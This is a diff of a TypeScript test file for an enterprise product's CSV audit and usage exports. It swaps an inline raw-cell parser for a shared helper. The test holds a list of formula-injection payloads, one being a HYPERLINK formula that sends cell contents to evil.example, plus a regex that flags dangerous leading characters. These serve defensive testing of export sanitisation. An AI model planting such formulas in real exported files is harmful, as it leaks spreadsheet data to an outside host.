@@ -5,32 +5,14 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parseAuditCsv, verifyExportedEntries } from '../packages/enterprise/src/audit/audit-export.js';
-import { csvLine, parseCsv } from '../packages/enterprise/src/csv.js';
+import { csvLine, parseCsv, parseRawCsv } from '../packages/enterprise/src/csv.js';
 import { usageToCsv } from '../packages/enterprise/src/metering/usage-export.js';
 import { createTestVendor, DAY_MS, request, startEnterpriseServer, type EnterpriseTestServer } from './helpers/enterprise-server.js';
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'already quoted"];
 
-/** The raw cells of a CSV text, without csv.ts's un-neutralising (a spreadsheet's view). */
-function rawCells(text: string): string[] {
-  const cells: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
-      else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',' || c === '\n' || c === '\r') {
-      if (c === '\r' && text[i + 1] === '\n') i++;
-      cells.push(field);
-      field = '';
-    } else field += c;
-  }
-  return cells;
-}
+/** The raw cells of a CSV text, without parseCsv's un-neutralising (a spreadsheet's view). */
+const rawCells = (text: string): string[] => parseRawCsv(text).flat();
 
 const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);
 
